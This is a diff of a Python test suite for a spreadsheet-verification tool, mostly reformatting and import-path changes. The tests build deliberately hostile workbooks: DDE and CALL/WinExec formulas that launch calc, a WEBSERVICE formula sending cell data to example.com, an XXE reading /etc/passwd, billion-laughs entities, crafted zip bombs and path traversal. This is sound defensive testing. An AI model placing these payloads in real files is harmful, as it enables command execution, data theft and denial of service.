@@ -20,22 +20,39 @@ import pytest
 from live import few
 from openpyxl.workbook.defined_name import DefinedName
 
-from mantile.estimation import estimate
+from mantile.estimate.estimate import estimate
 from mantile.library.errors import InputError
 from mantile.library.huggingface import parse_config
 from mantile.library.models import Model
 from mantile.library.scenario import parse_scenario
-from mantile.recalibration import calibrate_workbook
-from mantile.verification import verify
+from mantile.measured.calibrate_workbook import calibrate_workbook
+from mantile.verify.verify import verify
+from mantile.workbook.lint import lint
 from mantile.workbook.package import MAX_PART, letters, open_package
 from mantile.workbook.read import Formula, open_file, read_cells, typed_inputs
-from mantile.workbook.rules import lint
 from mantile.workbook.write import build_workbook
 
-CONFIG = {"model_type": "llama", "hidden_size": 2048, "num_attention_heads": 32, "num_key_value_heads": 4, "num_hidden_layers": 3,
-          "intermediate_size": 5632, "vocab_size": 32000, "max_position_embeddings": 2048}  # fmt: skip
-FIELDS = {"model": "small", "accelerator": "h100-sxm", "input_tokens": 500, "output_tokens": 100, "concurrency": 8, "title": "=1+1", "name": "+cmd",
-          "why": "@SUM(1)", "overrides": [{"id": "efficiency.step_host", "value": 700, "reason": "-2+3"}]}  # fmt: skip
+CONFIG = {
+    "model_type": "llama",
+    "hidden_size": 2048,
+    "num_attention_heads": 32,
+    "num_key_value_heads": 4,
+    "num_hidden_layers": 3,
+    "intermediate_size": 5632,
+    "vocab_size": 32000,
+    "max_position_embeddings": 2048,
+}
+FIELDS = {
+    "model": "small",
+    "accelerator": "h100-sxm",
+    "input_tokens": 500,
+    "output_tokens": 100,
+    "concurrency": 8,
+    "title": "=1+1",
+    "name": "+cmd",
+    "why": "@SUM(1)",
+    "overrides": [{"id": "efficiency.step_host", "value": 700, "reason": "-2+3"}],
+}
 MEGABYTES = 1500  # of memory that the worst of these files may take, with all that Python imports
 
 Parts = dict[str, bytes]
@@ -44,7 +61,9 @@ Parts = dict[str, bytes]
 @pytest.fixture(scope="module")
 def workbook(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """A small workbook in which everything a user names begins like a formula."""
-    model = Model(id="small", name="=HYPERLINK(1)", source="test", architecture=parse_config(CONFIG, "config.json"))
+    model = Model(
+        id="small", name="=HYPERLINK(1)", source="test", architecture=parse_config(CONFIG, "config.json")
+    )
     made = estimate(parse_scenario(FIELDS, "scenario"), model, few(("h100-sxm",)))
     return build_workbook(made, tmp_path_factory.mktemp("hostile") / "run.xlsx")
 
@@ -75,9 +94,16 @@ def _with(parts: Parts, name: str, old: str, new: str) -> Parts:
     return parts | {name: text.replace(old, new, 1).encode()}
 
 
-def _related(parts: Parts, kind: str, target: str, mode: str = "", of: str = "xl/_rels/workbook.xml.rels") -> Parts:
+def _related(
+    parts: Parts, kind: str, target: str, mode: str = "", of: str = "xl/_rels/workbook.xml.rels"
+) -> Parts:
     head = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-    return _with(parts, of, "</Relationships>", f'<Relationship Id="rId999" Type="{head}/{kind}" Target="{target}"{mode}/></Relationships>')
+    return _with(
+        parts,
+        of,
+        "</Relationships>",
+        f'<Relationship Id="rId999" Type="{head}/{kind}" Target="{target}"{mode}/></Relationships>',
+    )
 
 
 def _cell(parts: Parts, xml: str, sheet: str = "Serving") -> Parts:
@@ -101,54 +127,159 @@ def _macros(parts: Parts) -> Parts:
     return _related(parts, "vbaProject", "vbaProject.bin") | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
 
 
-LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True)) + "]>"
+LAUGHS = (
+    '<!DOCTYPE x [<!ENTITY a "ha">'
+    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True))
+    + "]>"
+)
 PLAIN = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
 STYLED = '<row r="9000"><c r="H9000"'
 
 REFUSED: dict[str, tuple[Callable[[Parts], Parts], str]] = {
     "macros": (_macros, r"part xl/_rels/workbook\.xml\.rels: macros \('vbaProject\.bin'\)"),
-    "macro-enabled type": (lambda parts: _with(parts, "[Content_Types].xml", "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
-                                               "vnd.ms-excel.sheet.macroEnabled.main+xml"), "macros"),
+    "macro-enabled type": (
+        lambda parts: _with(
+            parts,
+            "[Content_Types].xml",
+            "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
+            "vnd.ms-excel.sheet.macroEnabled.main+xml",
+        ),
+        "macros",
+    ),
     "Excel 4 macros": (lambda parts: _related(parts, "xlMacrosheet", "macrosheets/sheet1.xml"), "macros"),
-    "external link": (lambda parts: _related(parts, "externalLink", "externalLinks/externalLink1.xml"), "links to other files"),
-    "OLE object": (lambda parts: _related(parts, "oleObject", "../embeddings/oleObject1.bin"), "an embedded object"),
+    "external link": (
+        lambda parts: _related(parts, "externalLink", "externalLinks/externalLink1.xml"),
+        "links to other files",
+    ),
+    "OLE object": (
+        lambda parts: _related(parts, "oleObject", "../embeddings/oleObject1.bin"),
+        "an embedded object",
+    ),
     "ActiveX": (lambda parts: _related(parts, "control", "../activeX/activeX1.xml"), "a control"),
-    "connections": (lambda parts: _related(parts, "connections", "connections.xml"), "connections to outside data"),
-    "picture of the web": (lambda parts: _related(parts, "image", "http://example.com/a.png", ' TargetMode="External"'), "a link to another file"),
-    "formula to a file": (_text(f"{STYLED}><f>[1]Sheet!A1+1</f><v>1</v></c></row>"), r"cell H9000: '\[1\]Sheet!A1\+1' refers to another file or program"),
+    "connections": (
+        lambda parts: _related(parts, "connections", "connections.xml"),
+        "connections to outside data",
+    ),
+    "picture of the web": (
+        lambda parts: _related(parts, "image", "http://example.com/a.png", ' TargetMode="External"'),
+        "a link to another file",
+    ),
+    "formula to a file": (
+        _text(f"{STYLED}><f>[1]Sheet!A1+1</f><v>1</v></c></row>"),
+        r"cell H9000: '\[1\]Sheet!A1\+1' refers to another file or program",
+    ),
     "formula to a path": (_text(f"{STYLED}><f>'/etc/[passwd]x'!A1</f></c></row>"), "refers to another file"),
-    "DDE": (_text(f"{STYLED}><f>cmd|' /C calc'!A0</f></c></row>"), r"cell H9000: .* refers to another file or program"),
-    "format to a file": (_before_print('<conditionalFormatting sqref="A1"><cfRule type="expression" priority="99"><formula>[2]X!A1&gt;0</formula></cfRule>'
-                                       "</conditionalFormatting>"), r"formula: '\[2\]X!A1>0' refers to another file"),
-    "list of a file": (lambda parts: _with(parts, _sheet(parts, "Hardware"), "<formula1>", "<formula1>[1]X!A1+"), "formula1: .* refers to another file"),
-    "name of a file": (lambda parts: _with(parts, "xl/workbook.xml", "</definedNames>", '<definedName name="zz">[1]X!$A$1</definedName></definedNames>'),
-                       r"definedName: '\[1\]X!\$A\$1' refers to another file"),
-    "billion laughs": (lambda parts: _with(parts, "xl/sharedStrings.xml", PLAIN, PLAIN + LAUGHS), r"part xl/sharedStrings\.xml: declares a document type"),
-    "outer entity": (lambda parts: _with(parts, "xl/workbook.xml", PLAIN, PLAIN + '<!DOCTYPE x SYSTEM "file:///etc/passwd">'), "declares a document type"),
-    "laughs in UTF-16": (lambda parts: parts | {"xl/theme/theme1.xml": f"{LAUGHS}<x>&i;</x>".encode("utf-16")}, "theme1.xml: declares a document type"),
-    "laughs as a picture": (lambda parts: parts | {"xl/media/image1.png": f"\n {LAUGHS}<x>&i;</x>".encode()}, "image1.png: declares a document type"),
-    "a million rows": (lambda parts: _cell(parts, '<row><c t="n"><v>1</v></c></row>' * 1_000_000), "more than 300,000 rows and cells in the file"),
-    "many formulas": (lambda parts: _cell(parts, f"<row>{'<c><f>1</f></c>' * 16_000}</row>" * 4), "more than 50,000 formulas in the file"),
-    "the last cell": (_text('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), r"1,048,576 rows and 16,384 columns make an area of 17,179,\d+"),
-    "merged all over": (_before_print('<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'), r"the mergeCell 'A1:XFD1048576': cells make an area"),
-    "linked all over": (_before_print('<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>'), "the hyperlink 'A1:XFD1048576'"),
-    "beyond the sheet": (_text('<row r="9000"><c r="ZZZ9000"><v>1</v></c></row>'), "cell ZZZ9000 stands outside of any sheet"),
+    "DDE": (
+        _text(f"{STYLED}><f>cmd|' /C calc'!A0</f></c></row>"),
+        r"cell H9000: .* refers to another file or program",
+    ),
+    "format to a file": (
+        _before_print(
+            '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="99"><formula>[2]X!A1&gt;0</formula></cfRule>'
+            "</conditionalFormatting>"
+        ),
+        r"formula: '\[2\]X!A1>0' refers to another file",
+    ),
+    "list of a file": (
+        lambda parts: _with(parts, _sheet(parts, "Hardware"), "<formula1>", "<formula1>[1]X!A1+"),
+        "formula1: .* refers to another file",
+    ),
+    "name of a file": (
+        lambda parts: _with(
+            parts,
+            "xl/workbook.xml",
+            "</definedNames>",
+            '<definedName name="zz">[1]X!$A$1</definedName></definedNames>',
+        ),
+        r"definedName: '\[1\]X!\$A\$1' refers to another file",
+    ),
+    "billion laughs": (
+        lambda parts: _with(parts, "xl/sharedStrings.xml", PLAIN, PLAIN + LAUGHS),
+        r"part xl/sharedStrings\.xml: declares a document type",
+    ),
+    "outer entity": (
+        lambda parts: _with(
+            parts, "xl/workbook.xml", PLAIN, PLAIN + '<!DOCTYPE x SYSTEM "file:///etc/passwd">'
+        ),
+        "declares a document type",
+    ),
+    "laughs in UTF-16": (
+        lambda parts: parts | {"xl/theme/theme1.xml": f"{LAUGHS}<x>&i;</x>".encode("utf-16")},
+        "theme1.xml: declares a document type",
+    ),
+    "laughs as a picture": (
+        lambda parts: parts | {"xl/media/image1.png": f"\n {LAUGHS}<x>&i;</x>".encode()},
+        "image1.png: declares a document type",
+    ),
+    "a million rows": (
+        lambda parts: _cell(parts, '<row><c t="n"><v>1</v></c></row>' * 1_000_000),
+        "more than 300,000 rows and cells in the file",
+    ),
+    "many formulas": (
+        lambda parts: _cell(parts, f"<row>{'<c><f>1</f></c>' * 16_000}</row>" * 4),
+        "more than 50,000 formulas in the file",
+    ),
+    "the last cell": (
+        _text('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
+        r"1,048,576 rows and 16,384 columns make an area of 17,179,\d+",
+    ),
+    "merged all over": (
+        _before_print('<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
+        r"the mergeCell 'A1:XFD1048576': cells make an area",
+    ),
+    "linked all over": (
+        _before_print('<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>'),
+        "the hyperlink 'A1:XFD1048576'",
+    ),
+    "beyond the sheet": (
+        _text('<row r="9000"><c r="ZZZ9000"><v>1</v></c></row>'),
+        "cell ZZZ9000 stands outside of any sheet",
+    ),
     "no row": (_text('<row r="1e9"/>'), "row '1e9'; expected 1 to 1,048,576"),
     "no address": (_text('<row r="9000"><c r="H-1"/></row>'), "cell 'H-1'; expected an address"),
     "a cell twice": (_text(f"{STYLED}/><c r='H9000'/></row>"), "cell H9000 stands twice"),
     "not a number": (_text(f"{STYLED}><v>NaN</v></c></row>"), "cell H9000: holds 'NaN'; expected a number"),
-    "infinity": (_text(f"{STYLED}><f>1</f><v>1e999</v></c></row>"), "cell H9000: holds '1e999'; expected a number"),
-    "a long text": (_text(f'{STYLED} t="str"><v>{"x" * 40_000}</v></c></row>'), "cell H9000: a text of 40,000 characters; expected at most 32,767"),
-    "a long formula": (_text(f"{STYLED}><f>{'1+' * 5_000}1</f></c></row>"), "cell H9000: a text of 10,001 characters; expected at most 8,192"),
-    "a long footer": (lambda parts: _with(parts, _sheet(parts, "Serving"), "<oddFooter>", f"<oddFooter>{'&amp;C1' * 9_000}"), "oddFooter: a text of"),
-    "deep": (lambda parts: parts | {"xl/theme/theme1.xml": b"<a>" * 5_000_000}, "XML of 101 elements|XML of .* 101 deep"),
-    "many styles": (lambda parts: _with(parts, "xl/styles.xml", "<cellXfs", f"<x>{'<xf/>' * 300_000}</x><cellXfs"), r"part xl/styles\.xml: XML of "),
-    "broken XML": (lambda parts: parts | {"xl/styles.xml": parts["xl/styles.xml"][:-20]}, r"part xl/styles\.xml: expected XML"),
-    "a sheet without part": (lambda parts: {name: data for name, data in parts.items() if name != _sheet(parts, "Cost")}, "sheet 'Cost' is missing"),
+    "infinity": (
+        _text(f"{STYLED}><f>1</f><v>1e999</v></c></row>"),
+        "cell H9000: holds '1e999'; expected a number",
+    ),
+    "a long text": (
+        _text(f'{STYLED} t="str"><v>{"x" * 40_000}</v></c></row>'),
+        "cell H9000: a text of 40,000 characters; expected at most 32,767",
+    ),
+    "a long formula": (
+        _text(f"{STYLED}><f>{'1+' * 5_000}1</f></c></row>"),
+        "cell H9000: a text of 10,001 characters; expected at most 8,192",
+    ),
+    "a long footer": (
+        lambda parts: _with(
+            parts, _sheet(parts, "Serving"), "<oddFooter>", f"<oddFooter>{'&amp;C1' * 9_000}"
+        ),
+        "oddFooter: a text of",
+    ),
+    "deep": (
+        lambda parts: parts | {"xl/theme/theme1.xml": b"<a>" * 5_000_000},
+        "XML of 101 elements|XML of .* 101 deep",
+    ),
+    "many styles": (
+        lambda parts: _with(parts, "xl/styles.xml", "<cellXfs", f"<x>{'<xf/>' * 300_000}</x><cellXfs"),
+        r"part xl/styles\.xml: XML of ",
+    ),
+    "broken XML": (
+        lambda parts: parts | {"xl/styles.xml": parts["xl/styles.xml"][:-20]},
+        r"part xl/styles\.xml: expected XML",
+    ),
+    "a sheet without part": (
+        lambda parts: {name: data for name, data in parts.items() if name != _sheet(parts, "Cost")},
+        "sheet 'Cost' is missing",
+    ),
     "a sheet twice": (_twice, "sheet 'SUMMARY' stands in the workbook twice"),
-    "another workbook": (lambda parts: _with(parts, "_rels/.rels", "xl/workbook.xml", "xl/other.xml"), "the workbook is said to be xl/other.xml"),
+    "another workbook": (
+        lambda parts: _with(parts, "_rels/.rels", "xl/workbook.xml", "xl/other.xml"),
+        "the workbook is said to be xl/other.xml",
+    ),
     "outside": (lambda parts: parts | {"../../evil.xml": b"<a/>"}, "lies outside of the file"),
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize("case", REFUSED)
@@ -192,19 +323,60 @@ def _zeros(size: int) -> bytes:
     return block * (size // 2**20) + packer.flush()
 
 
-def _bomb(path: Path, parts: Parts, name: str, packed: bytes, said: int, copies: int = 1, checksum: int = 0) -> Path:
+def _bomb(
+    path: Path, parts: Parts, name: str, packed: bytes, said: int, copies: int = 1, checksum: int = 0
+) -> Path:
     """A workbook with one more part, which says of itself what it likes; its copies all lie at the same place."""
     _write(path, parts)
     whole = path.read_bytes()
     end = whole.rindex(b"PK\x05\x06")
     count, size, offset = struct.unpack("<HII", whole[end + 10 : end + 20])
-    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, checksum, len(packed), said, len(name), 0) + name.encode() + packed
+    local = (
+        struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, checksum, len(packed), said, len(name), 0)
+        + name.encode()
+        + packed
+    )
     entries = b"".join(
-        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, checksum, len(packed), said, len(other), 0, 0, 0, 0, 0, offset) + other.encode()
-        for other in ([name] if copies == 1 else [f"{name}{number}" for number in range(copies)]))  # fmt: skip
+        struct.pack(
+            "<4s6H3I5H2I",
+            b"PK\x01\x02",
+            20,
+            20,
+            0,
+            8,
+            0,
+            0,
+            checksum,
+            len(packed),
+            said,
+            len(other),
+            0,
+            0,
+            0,
+            0,
+            0,
+            offset,
+        )
+        + other.encode()
+        for other in ([name] if copies == 1 else [f"{name}{number}" for number in range(copies)])
+    )
     directory = whole[offset : offset + size] + entries
-    path.write_bytes(whole[:offset] + local + directory
-                     + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count + copies, count + copies, len(directory), offset + len(local), 0))  # fmt: skip
+    path.write_bytes(
+        whole[:offset]
+        + local
+        + directory
+        + struct.pack(
+            "<4s4H2IH",
+            b"PK\x05\x06",
+            0,
+            0,
+            count + copies,
+            count + copies,
+            len(directory),
+            offset + len(local),
+            0,
+        )
+    )
     return path
 
 
@@ -212,7 +384,7 @@ _WATCHED = """
 import resource, sys, time
 from pathlib import Path
 from mantile.library.errors import InputError
-from mantile.verification import verify
+from mantile.verify.verify import verify
 for path in sys.argv[1:]:
     started = time.process_time()
     try:
@@ -229,17 +401,44 @@ def test_bombs_take_neither_memory_nor_time(parts: Parts, tmp_path: Path) -> Non
     rest = {name: data for name, data in parts.items() if name != "xl/styles.xml"}
     rows = b'<row><c><v>1</v></c><c t="str"><v>x</v></c></row>' * 70_000
     files = {
-        _bomb(tmp_path / "honest.xlsx", parts, theme, big, 2**32 - 1): r"unpacks to 4,\d+,\d+,\d+ bytes; expected at most 134,217,728",
-        _bomb(tmp_path / "lying.xlsx", parts, theme, big, 1000): r"part xl/theme/theme2\.xml unpacks to more than 67,108,864 bytes",
-        _bomb(tmp_path / "denying.xlsx", parts, theme, _zeros(2**20), 1000, checksum=zlib.crc32(b" " * 2**20)): "and not to the 1,000 that the file says",
-        _bomb(tmp_path / "overlapping.xlsx", parts, theme, _zeros(2**26), 2**16, 1000): r"parts \S+ and \S+ overlap in the file",
-        _bomb(tmp_path / "many.xlsx", parts, theme, _zeros(2**20), 2**20, 3000): r"3,\d+ parts; expected at most 2,000",
-        _write(tmp_path / "text.xlsx", rest | {"xl/styles.xml": b"<a>" + b"x" * (MAX_PART - 100) + b"</a>"}): "expected at most 32,767",
-        _write(tmp_path / "sheet.xlsx", {name: re.sub(b"<sheetData>.*</sheetData>", b"<sheetData>" + rows + b"</sheetData>", data, flags=re.S)
-                                         if name == _sheet(parts, "_bundle") else data for name, data in parts.items()}): "sheet _bundle",
-    }  # fmt: skip
+        _bomb(
+            tmp_path / "honest.xlsx", parts, theme, big, 2**32 - 1
+        ): r"unpacks to 4,\d+,\d+,\d+ bytes; expected at most 134,217,728",
+        _bomb(
+            tmp_path / "lying.xlsx", parts, theme, big, 1000
+        ): r"part xl/theme/theme2\.xml unpacks to more than 67,108,864 bytes",
+        _bomb(
+            tmp_path / "denying.xlsx", parts, theme, _zeros(2**20), 1000, checksum=zlib.crc32(b" " * 2**20)
+        ): "and not to the 1,000 that the file says",
+        _bomb(
+            tmp_path / "overlapping.xlsx", parts, theme, _zeros(2**26), 2**16, 1000
+        ): r"parts \S+ and \S+ overlap in the file",
+        _bomb(
+            tmp_path / "many.xlsx", parts, theme, _zeros(2**20), 2**20, 3000
+        ): r"3,\d+ parts; expected at most 2,000",
+        _write(
+            tmp_path / "text.xlsx", rest | {"xl/styles.xml": b"<a>" + b"x" * (MAX_PART - 100) + b"</a>"}
+        ): "expected at most 32,767",
+        _write(
+            tmp_path / "sheet.xlsx",
+            {
+                name: re.sub(
+                    b"<sheetData>.*</sheetData>", b"<sheetData>" + rows + b"</sheetData>", data, flags=re.S
+                )
+                if name == _sheet(parts, "_bundle")
+                else data
+                for name, data in parts.items()
+            },
+        ): "sheet _bundle",
+    }
     assert all(path.stat().st_size < 6 * 2**20 for path in files)
-    done = subprocess.run([sys.executable, "-c", _WATCHED, *map(str, files)], capture_output=True, text=True, timeout=300, check=False)
+    done = subprocess.run(
+        [sys.executable, "-c", _WATCHED, *map(str, files)],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        check=False,
+    )
     assert done.returncode == 0, done.stderr
     *lines, memory = done.stdout.splitlines()
     for (path, message), line in zip(files.items(), lines, strict=True):
@@ -251,8 +450,11 @@ def test_bombs_take_neither_memory_nor_time(parts: Parts, tmp_path: Path) -> Non
 def test_a_bomb_inside_a_part_is_never_unpacked(parts: Parts, tmp_path: Path) -> None:
     """A zip file inside the zip file, and a range that is only said to be large."""
     inner = _bomb(tmp_path / "inner.zip", {}, "xl/x.xml", _zeros(2**30), 2**30).read_bytes()
-    path = _write(tmp_path / "run.xlsx", _with(parts, _sheet(parts, "Serving"), '<dimension ref="', '<dimension ref="A1:XFD1048576" x="')
-                  | {"xl/media/inner.zip": inner})  # fmt: skip
+    path = _write(
+        tmp_path / "run.xlsx",
+        _with(parts, _sheet(parts, "Serving"), '<dimension ref="', '<dimension ref="A1:XFD1048576" x="')
+        | {"xl/media/inner.zip": inner},
+    )
     assert next(iter(open_package(path).sheets)) == "Cover"
 
 
@@ -270,16 +472,27 @@ def _edit(source: Path, target: Path, *changes: Callable[[Any], None]) -> Path:
 
 
 def _at(book: Any, sheet: str, identifier: str, column: int = 8) -> Any:
-    return book[sheet].cell(next(row for row in range(5, book[sheet].max_row + 1) if book[sheet].cell(row, 6).value == identifier), column)
+    return book[sheet].cell(
+        next(
+            row for row in range(5, book[sheet].max_row + 1) if book[sheet].cell(row, 6).value == identifier
+        ),
+        column,
+    )
 
 
 def test_a_text_that_looks_like_a_formula(workbook: Path, tmp_path: Path) -> None:
     """Is a text, and passes; the formula of the same letters in its place is reported, each with its cell."""
     texts = ("=1+1", "+cmd", "@SUM(1)", "-2+3", "=HYPERLINK(1)")
-    found = [(sheet, place, value) for sheet, cells in read_cells(workbook).contents.items() for place, value in cells.items()
-             if any(text in str(value) for text in texts) and sheet != "_bundle"]  # fmt: skip
+    found = [
+        (sheet, place, value)
+        for sheet, cells in read_cells(workbook).contents.items()
+        for place, value in cells.items()
+        if any(text in str(value) for text in texts) and sheet != "_bundle"
+    ]
     places = {(sheet, row + 1, column + 1): value for sheet, (row, column), value in found if value in texts}
-    assert {text for text in texts for _, _, value in found if text in str(value)} == set(texts) and len(places) >= 3
+    assert {text for text in texts for _, _, value in found if text in str(value)} == set(texts) and len(
+        places
+    ) >= 3
     assert not [value for _, _, value in found if isinstance(value, Formula) and value in texts]
 
     def typed(opened: Any) -> None:
@@ -291,19 +504,32 @@ def test_a_text_that_looks_like_a_formula(workbook: Path, tmp_path: Path) -> Non
     assert not report["ok"] and edits == {f"{sheet}!{letters(column)}{row}" for sheet, row, column in places}
 
 
-def test_tampering_is_reported_by_cell(workbook: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_tampering_is_reported_by_cell(
+    workbook: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Cycles, arrays, data tables, functions that reach out, ranges and nesting without end, names and sheets: all in one file."""
     formulas = {
-        "serving.e2e": "=H{row}+1", "serving.tpot": '=WEBSERVICE("http://example.com/"&H10)', "serving.ttft": "=SUM(A1:XFD1048576)",
-        "serving.decode_step": "=" + "(" * 3000 + "1" + ")" * 3000, "serving.output_tokens_per_s": '=REPT("x",1E+9)&INDIRECT("A1")',
-        "serving.interactivity": "=SUM(Notes!A1:A9)", "serving.requests_per_s": '=CALL("kernel32","WinExec","JFI","calc",1)&"',
-    }  # fmt: skip
+        "serving.e2e": "=H{row}+1",
+        "serving.tpot": '=WEBSERVICE("http://example.com/"&H10)',
+        "serving.ttft": "=SUM(A1:XFD1048576)",
+        "serving.decode_step": "=" + "(" * 3000 + "1" + ")" * 3000,
+        "serving.output_tokens_per_s": '=REPT("x",1E+9)&INDIRECT("A1")',
+        "serving.interactivity": "=SUM(Notes!A1:A9)",
+        "serving.requests_per_s": '=CALL("kernel32","WinExec","JFI","calc",1)&"',
+    }
     wrong: dict[str, str] = {}
 
     def tamper(book: Any) -> None:
-        known = {book["Serving"].cell(row, 6).value: row for row in range(5, book["Serving"].max_row + 1)
-                 if book["Serving"].cell(row, 1).value != "Linked in" and book["Serving"].cell(row, 8).data_type == "f"}  # fmt: skip
-        rows = [known.get(identifier) or row for identifier, row in zip(formulas, list(known.values())[-20:], strict=False)]
+        known = {
+            book["Serving"].cell(row, 6).value: row
+            for row in range(5, book["Serving"].max_row + 1)
+            if book["Serving"].cell(row, 1).value != "Linked in"
+            and book["Serving"].cell(row, 8).data_type == "f"
+        }
+        rows = [
+            known.get(identifier) or row
+            for identifier, row in zip(formulas, list(known.values())[-20:], strict=False)
+        ]
         for row, formula in zip(rows, formulas.values(), strict=True):
             book["Serving"].cell(row, 8).value = formula.format(row=row)
             wrong[f"Serving!H{row}"] = book["Serving"].cell(row, 6).value
@@ -325,13 +551,17 @@ def test_tampering_is_reported_by_cell(workbook: Path, tmp_path: Path, monkeypat
     raw = {name: zipfile.ZipFile(path).read(name) for name in zipfile.ZipFile(path).namelist()}
     cost = _sheet(raw, "Cost")
     rows = re.findall(rb'<c r="(H\d+)"[^>]*><f>', raw[cost])[5:7]
-    for cell, kind in zip(rows, (b't="array" ref="H1:H1048576"', b't="dataTable" ref="H5:H9" dt2D="0" dtr="0" r1="G1"'), strict=True):
+    for cell, kind in zip(
+        rows,
+        (b't="array" ref="H1:H1048576"', b't="dataTable" ref="H5:H9" dt2D="0" dtr="0" r1="G1"'),
+        strict=True,
+    ):
         raw[cost] = re.sub(rb'(<c r="' + cell + rb'"[^>]*>)<f>', rb"\1<f " + kind + b">", raw[cost], count=1)
     _write(path, raw)
 
     file = open_file(path)
-    for module in ("verification", "recalibration"):
-        monkeypatch.setattr(f"mantile.{module}.open_file", lambda _: file)
+    for module in ("mantile.verify.verify", "mantile.measured.calibrate_workbook"):
+        monkeypatch.setattr(sys.modules[module], "open_file", lambda _: file)
     report = verify(path).to_dict()
     assert not report["ok"]
     edited = report["edited"]
@@ -343,8 +573,16 @@ def test_tampering_is_reported_by_cell(workbook: Path, tmp_path: Path, monkeypat
     cycle = next(iter(wrong))
     assert any(item["cell"] == cycle and item["source"] == "formulas" for item in report["mismatches"])
     assert {(item["name"], item["found"]) for item in edited["names"]} == {
-        ("ttft", "=Serving!$H$11"), ("tpot", None), ("mine", "=Serving!$H$12"), ("e2e on sheet Summary", "=1+1")}  # fmt: skip
-    assert {(item["sheet"], item["found"]) for item in edited["sheets"]} == {("Notes", "veryHidden"), ("More", "visible"), ("Checks", "hidden")}
+        ("ttft", "=Serving!$H$11"),
+        ("tpot", None),
+        ("mine", "=Serving!$H$12"),
+        ("e2e on sheet Summary", "=1+1"),
+    }
+    assert {(item["sheet"], item["found"]) for item in edited["sheets"]} == {
+        ("Notes", "veryHidden"),
+        ("More", "visible"),
+        ("Checks", "hidden"),
+    }
 
     with pytest.raises(InputError, match=r"run\.xlsx: .* LibreOffice is not given the file"):
         verify(path, "libreoffice")
@@ -370,12 +608,28 @@ def test_what_is_added_in_the_open_passes(workbook: Path, tmp_path: Path) -> Non
 def test_absurd_inputs_are_refused_by_cell(workbook: Path, tmp_path: Path) -> None:
     """No figure of a deployment, and nothing that overflows on the way; in a file, and as any other might hold it."""
     message = r"run\.xlsx: Efficiency!H\d+ \(efficiency\.step_host\.override\): holds .*expected a number under 1e\+15"
-    path = _edit(workbook, tmp_path / "run.xlsx", lambda book: setattr(_at(book, "Efficiency", "efficiency.step_host.override"), "value", 1e308))
+    path = _edit(
+        workbook,
+        tmp_path / "run.xlsx",
+        lambda book: setattr(_at(book, "Efficiency", "efficiency.step_host.override"), "value", 1e308),
+    )
     with pytest.raises(InputError, match=message):
         verify(path)
     file = open_file(path)
     sheet, row, column = file.book.entries["efficiency.step_host.override", 0]
-    for value in (-1e300, math.nan, math.inf, "NaN", "inf", "1e999", "=1+1", Formula("=1+1"), True, 10**400, datetime.datetime(2026, 1, 2)):
+    for value in (
+        -1e300,
+        math.nan,
+        math.inf,
+        "NaN",
+        "inf",
+        "1e999",
+        "=1+1",
+        Formula("=1+1"),
+        True,
+        10**400,
+        datetime.datetime(2026, 1, 2),
+    ):
         file.contents[sheet][row, column] = value
         with pytest.raises(InputError, match=message):
             typed_inputs(file)
